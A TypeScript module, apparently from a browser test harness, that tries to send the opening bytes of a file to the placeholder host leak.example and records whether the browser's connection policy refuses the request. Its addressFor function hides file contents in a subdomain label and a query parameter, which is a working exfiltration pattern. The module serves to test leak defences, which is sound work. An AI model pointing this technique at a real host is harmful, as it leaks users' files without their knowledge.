import type { Refusals } from './hear-refusals.ts';
import type { Attempt } from './ways-out.ts';

/** `silent`: the browser enforces a policy that refuses it, and says nothing. `unseen`: nothing shows that it was refused. */
export type Verdict = 'refused' | 'silent' | 'unseen' | 'absent';

export interface Outcome {
  verdict: Verdict;
  /** What the browser said: names of directives, and errors. */
  words: string[];
}

/** A name under `.example` belongs to nobody, and nobody answers at it (RFC 2606). */
const foreign = 'https://leak.example';

/** How long a browser is given to say that it refuses, in milliseconds. */
const patience = 250;

/** What one attempt leaves in the place where it runs, and what the browser says to it. */
export interface Traces {
  refusals: Refusals;
  /** What else shows that the browser refused. */
  failures(): string[];
  /** Puts the place back as it was. */
  end(): void;
}

/** Where attempts run. */
export interface Place {
  /** Its attempts go to hosts of their own, whose names begin with it. */
  mark: string;
  /** Follows one attempt, by the name of its host. */
  follow(hostname: string): Traces;
  /** Whether it is known that the browser enforces the `Connection-Allowlist` of this place, which refuses without a message. */
  listHolds: boolean;
}

/** What is sent away where a way takes only an address: the beginning of a file, as a part of a host's name. */
const asLabel = (bytes: Uint8Array) =>
  [...bytes.slice(0, 16)].map((byte) => byte.toString(16).padStart(2, '0')).join('');

/** Whatever can be put into text, as one that can be sent. */
export const asText = (bytes: Uint8Array) => btoa(String.fromCharCode(...bytes));

/** The address that takes bytes to a host that is not ours: in its name, and behind a question mark. */
export function addressFor(bytes: Uint8Array, mark: string): string {
  const address = new URL('/leak', foreign);
  address.hostname = `${mark}-${asLabel(bytes)}.${address.hostname}`;
  address.searchParams.set('file', asText(bytes.slice(0, 100)));
  return address.href;
}

let attempts = 0;

/**
 * Tries to send the beginning of a file away. The verdict is the browser's: an event of its policy, an error that names
 * the origin, or a call that has failed before it began. That nobody answers is no verdict.
 *
 * @param tell told of the outcome, and again of what a busy browser says later.
 */
export async function tryWay(
  attempt: Attempt,
  bytes: Uint8Array,
  { mark, follow, listHolds }: Place,
  tell: (outcome: Outcome) => void,
): Promise<void> {
  // The name says to which attempt it is that a browser says something.
  const address = addressFor(bytes, `${mark}${++attempts}`);
  const traces = follow(new URL(address).hostname);
  let error: unknown;
  try {
    const run = (async () => {
      try {
        await attempt(address, asText(bytes));
      } catch (thrown) {
        error = thrown;
      }
      if (!isRefusal(error)) await pause(patience);
    })();
    await Promise.race([traces.refusals.first, run, pause(patience * 2)]);
    // A page's policy stands in its header and in itself: what both refuse is told twice.
    await pause(30);
    const outcome = judge(traces, error, listHolds);
    tell(outcome);
    if (outcome.verdict !== 'refused') void traces.refusals.first.then(() => tell(judge(traces, error, listHolds)));
  } finally {
    traces.end();
  }
}

const pause = (milliseconds: number) => new Promise<void>((resolve) => setTimeout(resolve, milliseconds));

/** Errors that browsers throw by rule, not because nobody answered. */
const isRefusal = (error: unknown) => error instanceof DOMException && error.name === 'SecurityError';

function judge({ refusals, failures }: Traces, error: unknown, listHolds: boolean): Outcome {
  const shown = [...refusals.said, ...failures()];
  const words = [...shown, ...(error ? [shorten(error)] : [])];
  if (error instanceof ReferenceError) return { verdict: 'absent', words };
  if (shown.length > 0 || isRefusal(error)) return { verdict: 'refused', words };
  return { verdict: listHolds ? 'silent' : 'unseen', words };
}

/** Without the address, which is long, and the same in all. */
const shorten = (error: unknown) => String(error).replaceAll(/(https?:\/\/)[^\s']*/g, '$1…');
